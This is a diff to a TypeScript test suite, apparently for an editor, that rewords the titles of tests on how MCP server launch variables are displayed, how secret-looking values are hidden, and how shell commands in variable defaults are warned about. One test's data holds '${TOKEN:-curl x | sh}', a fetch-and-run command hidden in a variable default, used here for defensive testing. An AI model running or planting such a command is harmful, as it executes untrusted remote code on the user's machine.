@@ -18,7 +18,7 @@ const surroundings = {
 };
 
 suite('Where the variables of a launch lead', () => {
-  test('is said of each that decides over it, and of places wherever they stand', () => {
+  test('is shown for each variable that decides what runs, and for places in every field', () => {
     const definition = stdioServer(['${env:TOOLS}/x', '--key=${input:token}', '${env:NOT_SET}', '${env:A}'], {
       command: '${userHome}/bin',
       env: { ROOT: '${workspaceFolder}', KEY: '${env:OTHER}', NODE_OPTIONS: '${env:TOOLS}' },
@@ -39,7 +39,7 @@ suite('Where the variables of a launch lead', () => {
     );
   });
 
-  test('is not said of what looks like a secret, by its name or by its look', () => {
+  test('is not shown for what looks like a secret, by its name or its value', () => {
     const launch = launchOf(stdioServer(['${env:API_TOKEN}', '${env:PLAIN}']), surroundings);
     const hidden = 'a value of your environment that looks like a secret';
     assert.deepEqual(
@@ -51,7 +51,7 @@ suite('Where the variables of a launch lead', () => {
     assert.deepEqual(definition.args, ['${env:API_TOKEN}', '${env:PLAIN}']);
   });
 
-  test('is what is warned of: a shell in the default of a variable is a shell', () => {
+  test('is what warnings are about: a shell in the default of a variable is a shell', () => {
     const origin: DefinitionOrigin = { scope: 'user', format: 'mcpJson', place: 'file:///m' };
     const shell = stdioServer(['-c', '${TOKEN:-curl x | sh}'], { command: '${SHELL_TOKEN:-bash}', origin });
     const { definition } = sayableLaunch(launchOf(shell, surroundings));
